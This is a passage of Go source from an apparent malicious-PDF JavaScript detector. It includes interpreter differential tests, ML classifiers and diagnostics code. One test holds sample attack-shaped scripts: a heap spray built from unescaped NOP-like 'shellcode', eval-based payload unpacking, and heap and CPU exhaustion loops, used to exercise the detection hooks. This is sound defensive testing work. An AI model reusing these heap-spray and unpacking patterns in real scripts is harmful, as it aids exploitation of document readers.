	`function fib(n){ return n < 2 ? n : fib(n-1) + fib(n-2); } fib(10);`,
	`function va(){ return arguments.length + "" + arguments[1]; } va(1, "two", 3);`,
	`var named = function me(n){ return n ? me(n-1) + 1 : 0; }; named(4);`,
	`(function(){ return this === undefined ? "no-this" : "this"; })();`,
	// Control flow.
	`var r = ""; for (var i = 0; i < 5; i++){ if (i === 2) continue; if (i === 4) break; r += i; } r;`,
	`var w = 0; while (w < 10) { w += 3; } w;`,
	`var dw = 0; do { dw++; } while (dw < 4); dw;`,
	`var sw = ""; switch (2) { case 1: sw += "a"; case 2: sw += "b"; case 3: sw += "c"; break; default: sw += "d"; } sw;`,
	`var sd = ""; switch (99) { case 1: sd = "one"; break; default: sd = "def"; } sd;`,
	`var sn = "start"; switch (99) { case 1: sn = "one"; break; } sn;`,
	`var fi = ""; for (var i = 0; i < 3; i++){ for (var j in [1,2]) { if (j === "1") break; fi += i + "" + j; } } fi;`,
	// try/catch/finally in all abrupt-completion combinations.
	`var log = ""; try { log += "t"; throw {name:"E", message:"boom"}; } catch (e) { log += "c" + e.name; } finally { log += "f"; } log;`,
	`var l2 = ""; try { l2 += "t"; } finally { l2 += "f"; } l2;`,
	`function tf(){ try { return "try"; } finally { return "finally"; } } tf();`,
	`function tb(){ var o = ""; for (var i = 0; i < 3; i++){ try { if (i === 1) break; o += i; } finally { o += "f"; } } return o; } tb();`,
	`function tc(){ var o = ""; for (var i = 0; i < 3; i++){ try { if (i === 1) continue; o += i; } finally { o += "f"; } } return o; } tc();`,
	`var caught = ""; try { try { throw "inner"; } finally { caught += "f1"; } } catch (e) { caught += "c" + e; } caught;`,
	`var ff = ""; try { throw "a"; } catch (e) { try { throw "b"; } catch (e2) { ff = e + e2; } } ff;`,
	`function deep(){ try { try { return 1; } finally { ff2 += "i"; } } finally { ff2 += "o"; } } var ff2 = ""; deep() + ff2;`,
	// Uncaught abrupt completions.
	`throw "plain";`,
	`undefinedName + 1;`,
	`null.prop;`,
	`var nf = 42; nf();`,
	`unknownFn();`,
	`var om = {}; om.missing();`,
	`(void 0)["x"] = 1;`,
	// eval and Function constructor (nested compiled units).
	`var ev = eval("1 + 2"); ev;`,
	`var q = 10; eval("q + 5");`,
	`eval("var leaked = 7;"); leaked;`,
	`function scoped(){ var inner = "hid"; return eval("inner"); } scoped();`,
	`var F = new Function("a", "b", "return a * b;"); F(6, 7);`,
	`eval("syntax error here(");`,
	`eval(42);`,
	// new expressions.
	`function Ctor(v){ this.v = v; } var c1 = new Ctor(9); c1.v + "" + (c1.constructor === Ctor);`,
	`function RetObj(){ return {v: "override"}; } new RetObj().v;`,
	`new Array(1,2,3).length;`,
	`var no = 3; try { new no(); } catch (e) { e.message }`,
	// Logical / conditional / sequence.
	`var lz = 0; function bump(){ lz++; return true; } false && bump(); true || bump(); lz;`,
	`(1, 2, 3);`,
	`null == undefined; null === undefined; NaN == NaN; "1" == 1;`,
	`1 ? "yes" : "no";`,
	// instanceof / in.
	`function K(){} var ki = new K(); (ki instanceof K) + " " + ("v" in {v:1}) + " " + (0 in [7]);`,
	// String methods on the hot attack paths.
	`unescape("%u9090%u9090").length;`,
	`var sp = "a,b,c".split(","); sp.length + sp[2];`,
	`"payload".replace("pay", "un") + "substr".substring(0, 3);`,
	`String.fromCharCode(65, 66, 67);`,
}

func TestVMDifferential(t *testing.T) {
	for i, src := range differentialScripts {
		t.Run(fmt.Sprintf("script_%02d", i), func(t *testing.T) {
			assertBothEngines(t, src, diffLimits{})
		})
	}
}

// TestVMDifferentialAttackPatterns mirrors the malicious-corpus payload
// shapes (heap spray, shellcode staging, eval unpacking) including the hook
// streams they are detected by.
func TestVMDifferentialAttackPatterns(t *testing.T) {
	scripts := []string{
		// Heap spray by doubling: exercises OnAlloc and OnLargeString.
		`var shellcode = unescape("%u9090%u9090%u4141");
		 var block = shellcode;
		 while (block.length < 4096) block += block;
		 var spray = [];
		 for (var i = 0; i < 8; i++) spray[i] = block + i;
		 spray.length;`,
		// Staged eval unpacking, twice so the unit cache is exercised inside
		// one run.
		`var stage = "var p = 0; for (var i = 0; i < 10; i++) p += i; p;";
		 eval(stage) + eval(stage);`,
		// String scan loops: work() charging parity.
		`var hay = "x"; while (hay.length < 2048) hay += hay;
		 var hits = 0;
		 for (var i = 0; i < 16; i++) if (hay.indexOf("y") === -1) hits++;
		 hits;`,
		// Budget bomb (must die with identical step counters).
		`var n = 0; while (true) n++;`,
		// Heap bomb (identical heap counters and alloc streams).
		`var b = "AAAA"; try { while (true) b += b; } catch (e) { e.name }`,
	}
	for i, src := range scripts {
		t.Run(fmt.Sprintf("attack_%02d", i), func(t *testing.T) {
			assertBothEngines(t, src, diffLimits{steps: 300_000, heap: 4 << 20, largeUnit: 2048})
		})
	}
}

// TestVMBudgetExhaustionParity sweeps the step limit across a script's full
// range so exhaustion lands inside every kind of folded charge region; the
// reported step counter and error must match at each cutoff.
func TestVMBudgetExhaustionParity(t *testing.T) {
	src := `var total = 0;
	function work(n){
		var acc = "";
		for (var i = 0; i < n; i++) {
			try { acc += i; if (i % 3 === 0) continue; } finally { total++; }
		}
		return acc.length;
	}
	for (var r = 0; r < 6; r++) total += work(r + 4);
	total;`
	full := runEngine(src, true, diffLimits{}, NewUnitCache(1<<20))
	if full.errKind != "" {
		t.Fatalf("reference run failed: %s", full.errKind)
	}
	units := NewUnitCache(1 << 20)
	for limit := int64(1); limit <= full.steps+1; limit++ {
		lim := diffLimits{steps: limit}
		tree := runEngine(src, true, lim, units)
		vm := runEngine(src, false, lim, units)
		if tree.errKind != vm.errKind || tree.steps != vm.steps {
			t.Fatalf("limit %d: tree(err=%q steps=%d) vm(err=%q steps=%d)",
				limit, tree.errKind, tree.steps, vm.errKind, vm.steps)
		}
	}
}

// FuzzCompileVsTreeWalk is the differential fuzz target: any parseable
// input must behave identically on both engines.
func FuzzCompileVsTreeWalk(f *testing.F) {
	for _, s := range differentialScripts {
		f.Add(s)
	}
	for _, s := range fuzzSeedCorpus(f) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 64<<10 {
			return
		}
		lim := diffLimits{steps: 200_000, heap: 8 << 20}
		units := NewUnitCache(4 << 20)
		tree := runEngine(src, true, lim, units)
		vm := runEngine(src, false, lim, units)
		diffTraces(t, src, tree, vm)
	})
}

// fuzzSeedCorpus re-seeds the differential target with the committed
// FuzzJSInterp corpus (go test fuzz v1 files hold one quoted string each).
func fuzzSeedCorpus(f *testing.F) []string {
	f.Helper()
	dir := filepath.Join("testdata", "fuzz", "FuzzJSInterp")
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil
	}
	var out []string
	for _, e := range entries {
		data, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			continue
		}
		for _, line := range strings.Split(string(data), "\n") {
			if !strings.HasPrefix(line, "string(") {
				continue
			}
			if s, err := strconv.Unquote(strings.TrimSuffix(strings.TrimPrefix(line, "string("), ")")); err == nil {
				out = append(out, s)
			}
		}
	}
	return out
}
