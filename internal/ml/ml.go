// Package ml provides the small machine-learning toolbox the baseline
// detectors of Table IX are built on: dense feature vectors, a CART-style
// decision tree, a linear SVM trained with SGD (hinge loss), and a
// centroid-based one-class classifier approximating the OCSVM used by
// PJScan. Everything is deterministic given the caller's seed.
package ml

import (
	"fmt"
	"math"
	"math/rand"
	"sort"
)

// Example is one labelled feature vector. Label is +1 / -1.
type Example struct {
	X []float64
	Y int
}

// Dataset is a set of examples with a fixed dimensionality.
type Dataset struct {
	Dim      int
	Examples []Example
}

// Add appends an example (padding or truncating to Dim).
func (d *Dataset) Add(x []float64, y int) {
	v := make([]float64, d.Dim)
	copy(v, x)
	d.Examples = append(d.Examples, Example{X: v, Y: y})
}

// Classifier is a trained binary classifier.
type Classifier interface {
	// Predict returns +1 (malicious) or -1 (benign).
	Predict(x []float64) int
}

// ---- decision tree ----

// TreeConfig tunes decision-tree training.
type TreeConfig struct {
	MaxDepth    int
	MinLeafSize int
}

type treeNode struct {
	feature   int
	threshold float64
	left      *treeNode
	right     *treeNode
	label     int
	leaf      bool
}

// Tree is a CART-style decision tree using Gini impurity.
type Tree struct {
	root *treeNode
}

var _ Classifier = (*Tree)(nil)

// TrainTree fits a decision tree.
func TrainTree(ds *Dataset, cfg TreeConfig) *Tree {
	if cfg.MaxDepth == 0 {
		cfg.MaxDepth = 12
	}
	if cfg.MinLeafSize == 0 {
		cfg.MinLeafSize = 2
	}
	idx := make([]int, len(ds.Examples))
	for i := range idx {
		idx[i] = i
	}
	return &Tree{root: buildTree(ds, idx, cfg, 0)}
}

func majority(ds *Dataset, idx []int) int {
	pos := 0
	for _, i := range idx {
		if ds.Examples[i].Y > 0 {
			pos++
		}
	}
	if pos*2 >= len(idx) {
		return 1
	}
	return -1
}

func gini(pos, total int) float64 {
	if total == 0 {
		return 0
	}
	p := float64(pos) / float64(total)
	return 2 * p * (1 - p)
}

func buildTree(ds *Dataset, idx []int, cfg TreeConfig, depth int) *treeNode {
	label := majority(ds, idx)
	pure := true
	for _, i := range idx {
		if ds.Examples[i].Y != ds.Examples[idx[0]].Y {
			pure = false
			break
		}
	}
	if pure || depth >= cfg.MaxDepth || len(idx) <= cfg.MinLeafSize {
		return &treeNode{leaf: true, label: label}
	}

	bestFeature, bestThreshold := -1, 0.0
	bestImpurity := math.Inf(1)
	vals := make([]float64, 0, len(idx))
	for f := 0; f < ds.Dim; f++ {
		vals = vals[:0]
		for _, i := range idx {
			vals = append(vals, ds.Examples[i].X[f])
		}
		sort.Float64s(vals)
		for k := 0; k+1 < len(vals); k++ {
			if vals[k] == vals[k+1] {
				continue
			}
			thr := (vals[k] + vals[k+1]) / 2
			lp, lt, rp, rt := 0, 0, 0, 0
			for _, i := range idx {
				if ds.Examples[i].X[f] <= thr {
					lt++
					if ds.Examples[i].Y > 0 {
						lp++
					}
				} else {
					rt++
					if ds.Examples[i].Y > 0 {
						rp++
					}
				}
			}
			imp := (float64(lt)*gini(lp, lt) + float64(rt)*gini(rp, rt)) / float64(len(idx))
			if imp < bestImpurity {
				bestImpurity = imp
				bestFeature = f
				bestThreshold = thr
			}
		}
	}
	if bestFeature < 0 {
		return &treeNode{leaf: true, label: label}
	}
	var leftIdx, rightIdx []int
	for _, i := range idx {
		if ds.Examples[i].X[bestFeature] <= bestThreshold {
			leftIdx = append(leftIdx, i)
		} else {
			rightIdx = append(rightIdx, i)
		}
	}
	if len(leftIdx) == 0 || len(rightIdx) == 0 {
		return &treeNode{leaf: true, label: label}
	}
	return &treeNode{
		feature:   bestFeature,
		threshold: bestThreshold,
		left:      buildTree(ds, leftIdx, cfg, depth+1),
		right:     buildTree(ds, rightIdx, cfg, depth+1),
	}
}

// Predict implements Classifier.
func (t *Tree) Predict(x []float64) int {
	n := t.root
	for !n.leaf {
		f := 0.0
		if n.feature < len(x) {
			f = x[n.feature]
		}
		if f <= n.threshold {
			n = n.left
		} else {
			n = n.right
		}
	}
	return n.label
}

// ---- linear SVM (SGD, hinge loss) ----

// SVMConfig tunes SVM training.
type SVMConfig struct {
	Epochs int
	Lambda float64
	Seed   int64
}

// SVM is a linear classifier.
type SVM struct {
	W []float64
	B float64
}

var _ Classifier = (*SVM)(nil)

// TrainSVM fits a linear SVM with Pegasos-style SGD.
func TrainSVM(ds *Dataset, cfg SVMConfig) *SVM {
	if cfg.Epochs == 0 {
		cfg.Epochs = 20
	}
	if cfg.Lambda == 0 {
		cfg.Lambda = 1e-3
	}
	//nolint:gosec // deterministic training shuffle.
	rng := rand.New(rand.NewSource(cfg.Seed + 1))
	w := make([]float64, ds.Dim)
	b := 0.0
	t := 0
	order := make([]int, len(ds.Examples))
	for i := range order {
		order[i] = i
	}
	for epoch := 0; epoch < cfg.Epochs; epoch++ {
		rng.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
		for _, i := range order {
			t++
			eta := 1 / (cfg.Lambda * float64(t))
			ex := ds.Examples[i]
			margin := float64(ex.Y) * (dot(w, ex.X) + b)
			for j := range w {
				w[j] *= 1 - eta*cfg.Lambda
			}
			if margin < 1 {
				for j := range w {
					w[j] += eta * float64(ex.Y) * ex.X[j]
				}
				b += eta * float64(ex.Y)
			}
		}
	}
	return &SVM{W: w, B: b}
}

func dot(a, b []float64) float64 {
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	s := 0.0
	for i := 0; i < n; i++ {
		s += a[i] * b[i]
	}
	return s
}

// Predict implements Classifier.
func (m *SVM) Predict(x []float64) int {
	if dot(m.W, x)+m.B >= 0 {
		return 1
	}
	return -1
}

// Score returns the signed margin.
func (m *SVM) Score(x []float64) float64 { return dot(m.W, x) + m.B }

// ---- one-class classifier (OCSVM approximation) ----

// OneClass models the benign class as a centroid plus a quantile radius in
// normalized feature space; points outside the radius are anomalies. This
// approximates the one-class SVM with RBF kernel that PJScan trains on
// benign lexical profiles.
type OneClass struct {
	Center []float64
	Scale  []float64
	Radius float64
}

// TrainOneClass fits the model on (benign) vectors. quantile (0,1] sets the
// training-data fraction inside the boundary, e.g. 0.95.
func TrainOneClass(vectors [][]float64, quantile float64) *OneClass {
	if len(vectors) == 0 {
		return &OneClass{Radius: math.Inf(1)}
	}
	if quantile <= 0 || quantile > 1 {
		quantile = 0.95
	}
	dim := len(vectors[0])
	center := make([]float64, dim)
	for _, v := range vectors {
		for i := 0; i < dim && i < len(v); i++ {
			center[i] += v[i]
		}
	}
	for i := range center {
		center[i] /= float64(len(vectors))
	}
	scale := make([]float64, dim)
	for _, v := range vectors {
		for i := 0; i < dim && i < len(v); i++ {
			d := v[i] - center[i]
			scale[i] += d * d
		}
	}
	for i := range scale {
		scale[i] = math.Sqrt(scale[i]/float64(len(vectors))) + 1e-9
	}
	dists := make([]float64, len(vectors))
	oc := &OneClass{Center: center, Scale: scale}
	for i, v := range vectors {
		dists[i] = oc.distance(v)
	}
	sort.Float64s(dists)
	k := int(quantile*float64(len(dists))) - 1
	if k < 0 {
		k = 0
	}
	if k >= len(dists) {
		k = len(dists) - 1
	}
	oc.Radius = dists[k]
	return oc
}

func (oc *OneClass) distance(x []float64) float64 {
	s := 0.0
	for i := range oc.Center {
		xv := 0.0
		if i < len(x) {
			xv = x[i]
		}
		d := (xv - oc.Center[i]) / oc.Scale[i]
		s += d * d
	}
	return math.Sqrt(s)
}

// Anomalous reports whether x falls outside the benign boundary.
func (oc *OneClass) Anomalous(x []float64) bool {
	return oc.distance(x) > oc.Radius
}

// ---- evaluation metrics ----

// Confusion counts binary-classification outcomes (positive = malicious).
type Confusion struct {
	TP, FP, TN, FN int
}

// Observe records one prediction.
func (c *Confusion) Observe(predictedPositive, actuallyPositive bool) {
	switch {
	case predictedPositive && actuallyPositive:
		c.TP++
	case predictedPositive && !actuallyPositive:
		c.FP++
	case !predictedPositive && actuallyPositive:
		c.FN++
	default:
		c.TN++
	}
}

// TPR is the true-positive (detection) rate.
func (c Confusion) TPR() float64 {
	if c.TP+c.FN == 0 {
		return 0
	}
	return float64(c.TP) / float64(c.TP+c.FN)
}

// FPR is the false-positive rate.
func (c Confusion) FPR() float64 {
	if c.FP+c.TN == 0 {
		return 0
	}
	return float64(c.FP) / float64(c.FP+c.TN)
}

// Accuracy is overall accuracy.
func (c Confusion) Accuracy() float64 {
	total := c.TP + c.FP + c.TN + c.FN
	if total == 0 {
		return 0
	}
	return float64(c.TP+c.TN) / float64(total)
}

func (c Confusion) String() string {
	return fmt.Sprintf("TP=%d FP=%d TN=%d FN=%d (TPR %.1f%%, FPR %.2f%%)",
		c.TP, c.FP, c.TN, c.FN, c.TPR()*100, c.FPR()*100)
}
