package ml

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func separableDataset(n int, dim int, seed int64) *Dataset {
	rng := rand.New(rand.NewSource(seed))
	ds := &Dataset{Dim: dim}
	for i := 0; i < n; i++ {
		x := make([]float64, dim)
		for j := range x {
			x[j] = rng.Float64()
		}
		// Class by a simple threshold on feature 0 with margin.
		if x[0] > 0.6 {
			ds.Add(x, 1)
		} else if x[0] < 0.4 {
			ds.Add(x, -1)
		}
	}
	return ds
}

func TestTreeOnSeparableData(t *testing.T) {
	ds := separableDataset(400, 5, 1)
	tree := TrainTree(ds, TreeConfig{})
	errs := 0
	for _, ex := range ds.Examples {
		if tree.Predict(ex.X) != ex.Y {
			errs++
		}
	}
	if errs > len(ds.Examples)/50 {
		t.Errorf("tree training errors = %d/%d", errs, len(ds.Examples))
	}
}

func TestTreePureLeaf(t *testing.T) {
	ds := &Dataset{Dim: 2}
	for i := 0; i < 10; i++ {
		ds.Add([]float64{float64(i), 0}, 1)
	}
	tree := TrainTree(ds, TreeConfig{})
	if tree.Predict([]float64{3, 0}) != 1 {
		t.Error("pure dataset misclassified")
	}
}

func TestTreeHandlesShortVectors(t *testing.T) {
	ds := separableDataset(100, 4, 2)
	tree := TrainTree(ds, TreeConfig{})
	// Predict with a shorter vector: missing features read as 0.
	_ = tree.Predict([]float64{0.9})
}

func TestSVMOnSeparableData(t *testing.T) {
	ds := separableDataset(400, 5, 3)
	svm := TrainSVM(ds, SVMConfig{Seed: 3})
	errs := 0
	for _, ex := range ds.Examples {
		if svm.Predict(ex.X) != ex.Y {
			errs++
		}
	}
	if errs > len(ds.Examples)/10 {
		t.Errorf("svm training errors = %d/%d", errs, len(ds.Examples))
	}
}

func TestSVMDeterministic(t *testing.T) {
	ds := separableDataset(100, 3, 4)
	a := TrainSVM(ds, SVMConfig{Seed: 9})
	b := TrainSVM(ds, SVMConfig{Seed: 9})
	for i := range a.W {
		if a.W[i] != b.W[i] {
			t.Fatal("svm training not deterministic")
		}
	}
}

func TestOneClass(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	var train [][]float64
	for i := 0; i < 300; i++ {
		train = append(train, []float64{rng.NormFloat64(), rng.NormFloat64()})
	}
	oc := TrainOneClass(train, 0.95)
	if oc.Anomalous([]float64{0, 0}) {
		t.Error("center flagged anomalous")
	}
	if !oc.Anomalous([]float64{40, 40}) {
		t.Error("distant point not anomalous")
	}
	inliers := 0
	for _, v := range train {
		if !oc.Anomalous(v) {
			inliers++
		}
	}
	frac := float64(inliers) / float64(len(train))
	if frac < 0.90 || frac > 1.0 {
		t.Errorf("inlier fraction = %.2f, want ~0.95", frac)
	}
}

func TestOneClassEmpty(t *testing.T) {
	oc := TrainOneClass(nil, 0.95)
	if oc.Anomalous([]float64{1, 2, 3}) {
		t.Error("empty model should accept everything")
	}
}

func TestConfusionMetrics(t *testing.T) {
	var c Confusion
	c.Observe(true, true)   // TP
	c.Observe(true, true)   // TP
	c.Observe(false, true)  // FN
	c.Observe(true, false)  // FP
	c.Observe(false, false) // TN
	c.Observe(false, false) // TN
	if c.TP != 2 || c.FN != 1 || c.FP != 1 || c.TN != 2 {
		t.Fatalf("counts = %+v", c)
	}
	if got := c.TPR(); got < 0.66 || got > 0.67 {
		t.Errorf("TPR = %v", got)
	}
	if got := c.FPR(); got < 0.33 || got > 0.34 {
		t.Errorf("FPR = %v", got)
	}
	if got := c.Accuracy(); got != 4.0/6 {
		t.Errorf("accuracy = %v", got)
	}
}

func TestConfusionZero(t *testing.T) {
	var c Confusion
	if c.TPR() != 0 || c.FPR() != 0 || c.Accuracy() != 0 {
		t.Error("zero confusion should yield zero rates")
	}
}

func TestTreePredictionsAreValidLabelsProperty(t *testing.T) {
	ds := separableDataset(200, 3, 7)
	tree := TrainTree(ds, TreeConfig{})
	f := func(a, b, c float64) bool {
		p := tree.Predict([]float64{a, b, c})
		return p == 1 || p == -1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}
