package obs

import "runtime"

// Version is the build's version string, stamped by the Makefile via
//
//	-ldflags "-X pdfshield/internal/obs.Version=<git describe>"
//
// and left at "dev" for plain `go build`.
var Version = "dev"

// RegisterBuildInfo exports the conventional build-identity gauge:
// pdfshield_build_info{version,go_version} with constant value 1, so a
// scrape (or a colleague reading one) can tell which binary produced it.
func RegisterBuildInfo(reg *Registry) {
	if reg == nil {
		return
	}
	reg.GaugeFunc(Labels(MetricBuildInfo,
		"go_version", runtime.Version(),
		"version", Version,
	), func() float64 { return 1 })
}
