package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/pprof"
	"runtime"
	"strconv"
	"time"
)

// DiagConfig configures the diagnostics subsystem a pipeline carries.
// The zero value enables everything with defaults.
type DiagConfig struct {
	// Disable turns diagnostics off entirely (NewDiagnostics returns nil,
	// and every method on a nil *Diagnostics is a no-op).
	Disable bool
	// Flight tunes the flight recorder.
	Flight FlightConfig
	// SLOs are the latency objectives (nil = DefaultSLOs).
	SLOs []SLOObjective
	// SLOWindow is the burn-rate rolling window (0 = DefaultSLOWindow).
	SLOWindow time.Duration
	// Watchdog tunes the stall watchdog.
	Watchdog WatchdogConfig
}

// Diagnostics bundles the runtime's introspection surfaces — flight
// recorder, SLO tracker, stall watchdog — behind one handle the
// pipeline owns and servers mount. A nil *Diagnostics is fully inert.
type Diagnostics struct {
	Flight   *FlightRecorder
	SLO      *SLOTracker
	Watchdog *Watchdog
}

// NewDiagnostics builds the subsystem and exports its metric series into
// reg. Returns nil when cfg.Disable is set.
func NewDiagnostics(reg *Registry, cfg DiagConfig) *Diagnostics {
	if cfg.Disable {
		return nil
	}
	cfg.Flight.Obs = reg
	cfg.Watchdog.Obs = reg
	d := &Diagnostics{
		Flight:   NewFlightRecorder(cfg.Flight),
		SLO:      NewSLOTracker(SLOConfig{Objectives: cfg.SLOs, Window: cfg.SLOWindow}),
		Watchdog: NewWatchdog(cfg.Watchdog),
	}
	d.SLO.Register(reg)
	return d
}

// Close stops the watchdog's scan loop.
func (d *Diagnostics) Close() {
	if d == nil {
		return
	}
	d.Watchdog.Stop()
}

// debugLimit parses the ?n= query bound (default def, capped at 1000).
func debugLimit(r *http.Request, def int) int {
	n := def
	if s := r.URL.Query().Get("n"); s != "" {
		if v, err := strconv.Atoi(s); err == nil && v > 0 {
			n = v
		}
	}
	if n > 1000 {
		n = 1000
	}
	return n
}

func writeJSON(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}

// RegisterDebug mounts the live debug endpoints under prefix (e.g.
// "/v1/debug"):
//
//	<prefix>/traces          recent + tail-sampled traces (?n= bound,
//	                         ?doc=<id> filters to one document)
//	<prefix>/slow            slowest retained traces by total latency
//	<prefix>/slo             objective status with burn rates
//	<prefix>/stalls          stall watchdog reports (goroutine dumps)
//
// Safe to call on a nil *Diagnostics (mounts nothing).
func (d *Diagnostics) RegisterDebug(mux *http.ServeMux, prefix string) {
	if d == nil || mux == nil {
		return
	}
	mux.HandleFunc("GET "+prefix+"/traces", func(w http.ResponseWriter, r *http.Request) {
		if docID := r.URL.Query().Get("doc"); docID != "" {
			writeJSON(w, map[string]any{"doc": docID, "traces": d.Flight.Find(docID)})
			return
		}
		n := debugLimit(r, 32)
		writeJSON(w, map[string]any{
			"stats":  d.Flight.Stats(),
			"recent": d.Flight.Recent(n),
			"tail":   d.Flight.Tail(n),
		})
	})
	mux.HandleFunc("GET "+prefix+"/slow", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, map[string]any{"slowest": d.Flight.Slowest(debugLimit(r, 16))})
	})
	mux.HandleFunc("GET "+prefix+"/slo", func(w http.ResponseWriter, _ *http.Request) {
		writeJSON(w, map[string]any{"objectives": d.SLO.Status()})
	})
	mux.HandleFunc("GET "+prefix+"/stalls", func(w http.ResponseWriter, _ *http.Request) {
		writeJSON(w, map[string]any{
			"stats":   d.Watchdog.Stats(),
			"reports": d.Watchdog.Reports(),
		})
	})
}

// RegisterPprof mounts the net/http/pprof handlers at their conventional
// /debug/pprof/ prefix. The prefix is fixed because pprof.Index renders
// links assuming it. Profiling endpoints expose goroutine stacks and
// heap contents, so servers mount this only behind an explicit opt-in
// flag (-pprof).
func RegisterPprof(mux *http.ServeMux) {
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
}

// WriteDump renders a human-readable diagnostic snapshot: build
// identity, SLO status, slowest retained traces, stall reports and a
// full goroutine dump. This is what SIGQUIT prints and what operators
// paste into incident channels. Safe on a nil *Diagnostics (dumps
// build info and goroutines only).
func (d *Diagnostics) WriteDump(w io.Writer) {
	fmt.Fprintf(w, "=== pdfshield diagnostic dump ===\n")
	fmt.Fprintf(w, "version: %s (%s)\n", Version, runtime.Version())
	fmt.Fprintf(w, "goroutines: %d\n", runtime.NumGoroutine())

	if d != nil {
		fmt.Fprintf(w, "\n--- slo status ---\n")
		for _, s := range d.SLO.Status() {
			fmt.Fprintf(w, "%-16s depth=%-8q route=%-10q target=%.3f window=%d/%d burn=%.2f\n",
				s.Objective.Name, s.Objective.Depth, s.Objective.Route,
				s.Objective.Target, s.WindowBreached, s.WindowObserved, s.BurnRate)
		}

		fmt.Fprintf(w, "\n--- flight recorder ---\n")
		st := d.Flight.Stats()
		fmt.Fprintf(w, "recorded=%d recent=%d/%d tail=%d/%d\n",
			st.Recorded, st.RecentLen, st.RecentCap, st.TailLen, st.TailCap)
		for _, rec := range d.Flight.Slowest(10) {
			tr := rec.Trace
			fmt.Fprintf(w, "#%d %s %.3fs outcome=%q depth=%q route=%q retained=%v\n",
				rec.Seq, tr.DocID, rec.TotalSeconds, tr.Outcome, tr.Depth, tr.Route, rec.Retained)
		}

		if reports := d.Watchdog.Reports(); len(reports) > 0 {
			fmt.Fprintf(w, "\n--- stall reports (%d) ---\n", len(reports))
			for _, rep := range reports {
				fmt.Fprintf(w, "%s stuck %.1fs in %q since %s\n",
					rep.DocID, rep.Stalled.Seconds(), rep.Phase, rep.Since.Format(time.RFC3339))
			}
		}
	}

	fmt.Fprintf(w, "\n--- goroutines ---\n")
	buf := make([]byte, DefaultStackBytes)
	buf = buf[:runtime.Stack(buf, true)]
	w.Write(buf)
	fmt.Fprintf(w, "\n=== end dump ===\n")
}

// ServeMetricsDiag is ServeMetrics plus the diagnostics surface: debug
// endpoints under /v1/debug (when diag is non-nil) and, when pprofOn is
// set, the net/http/pprof handlers. This backs the CLIs' -metrics-addr
// + -pprof flag pair.
func (r *Registry) ServeMetricsDiag(addr string, diag *Diagnostics, pprofOn bool) (*MetricsServer, error) {
	return r.serveMetrics(addr, func(mux *http.ServeMux) {
		diag.RegisterDebug(mux, "/v1/debug")
		if pprofOn {
			RegisterPprof(mux)
		}
	})
}
