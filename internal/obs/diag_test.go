package obs

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// TestFlightRecorderRetention drives the two-ring retention contract:
// every completion lands in the recent ring, interesting completions
// (errored, deep-scanned, quarantined, slow) are additionally
// tail-sampled so ordinary traffic cannot flush them, and the retention
// counters tick per reason.
func TestFlightRecorderRetention(t *testing.T) {
	reg := NewRegistry()
	f := NewFlightRecorder(FlightConfig{Recent: 4, Tail: 8, SlowThreshold: time.Second, Obs: reg})

	f.Record(&Trace{DocID: "doc-errored", Outcome: OutcomeErrored, Error: "hostile parse"}, 10*time.Millisecond)
	f.Record(&Trace{DocID: "doc-deep", Outcome: OutcomeBenign, Depth: "deep", DeepPaths: 3}, 2*time.Second)
	f.Record(&Trace{DocID: "doc-mal", Outcome: OutcomeMalicious}, 20*time.Millisecond)
	for i := 0; i < 4; i++ {
		f.Record(&Trace{DocID: "doc-ordinary", Outcome: OutcomeBenign}, time.Millisecond)
	}

	// The recent ring (size 4) has been fully overwritten by ordinary
	// traffic; the tail ring still holds every interesting trace.
	recent := f.Recent(0)
	if len(recent) != 4 {
		t.Fatalf("recent ring holds %d records, want 4", len(recent))
	}
	for _, rec := range recent {
		if rec.Trace.DocID != "doc-ordinary" {
			t.Errorf("recent ring kept %q after 4 ordinary completions", rec.Trace.DocID)
		}
	}
	tail := f.Tail(0)
	if len(tail) != 3 {
		t.Fatalf("tail ring holds %d records, want 3: %+v", len(tail), tail)
	}
	// Newest-first ordering.
	if tail[0].Trace.DocID != "doc-mal" || tail[2].Trace.DocID != "doc-errored" {
		t.Errorf("tail not newest-first: %q ... %q", tail[0].Trace.DocID, tail[2].Trace.DocID)
	}

	// Retention reasons.
	wantReasons := map[string][]string{
		"doc-errored": {RetainErrored},
		"doc-deep":    {RetainDeepScan, RetainSlow},
		"doc-mal":     {RetainQuarantined},
	}
	for doc, want := range wantReasons {
		recs := f.Find(doc)
		if len(recs) != 1 {
			t.Fatalf("Find(%q) = %d records, want 1", doc, len(recs))
		}
		got := recs[0].Retained
		if len(got) != len(want) {
			t.Fatalf("Find(%q).Retained = %v, want %v", doc, got, want)
		}
		for i := range want {
			if got[i] != want[i] {
				t.Errorf("Find(%q).Retained = %v, want %v", doc, got, want)
			}
		}
	}

	// Slowest ranks by total latency across both rings, deduplicated.
	slowest := f.Slowest(1)
	if len(slowest) != 1 || slowest[0].Trace.DocID != "doc-deep" {
		t.Errorf("Slowest(1) = %+v, want the 2s deep-scan trace", slowest)
	}

	st := f.Stats()
	if st.Recorded != 7 || st.RecentLen != 4 || st.RecentCap != 4 || st.TailLen != 3 || st.TailCap != 8 {
		t.Errorf("Stats = %+v, want recorded=7 recent=4/4 tail=3/8", st)
	}

	snap := reg.Snapshot()
	for reason, want := range map[string]uint64{
		RetainErrored:     1,
		RetainDeepScan:    1,
		RetainSlow:        1,
		RetainQuarantined: 1,
		RetainCrashed:     0, // preregistered at zero
	} {
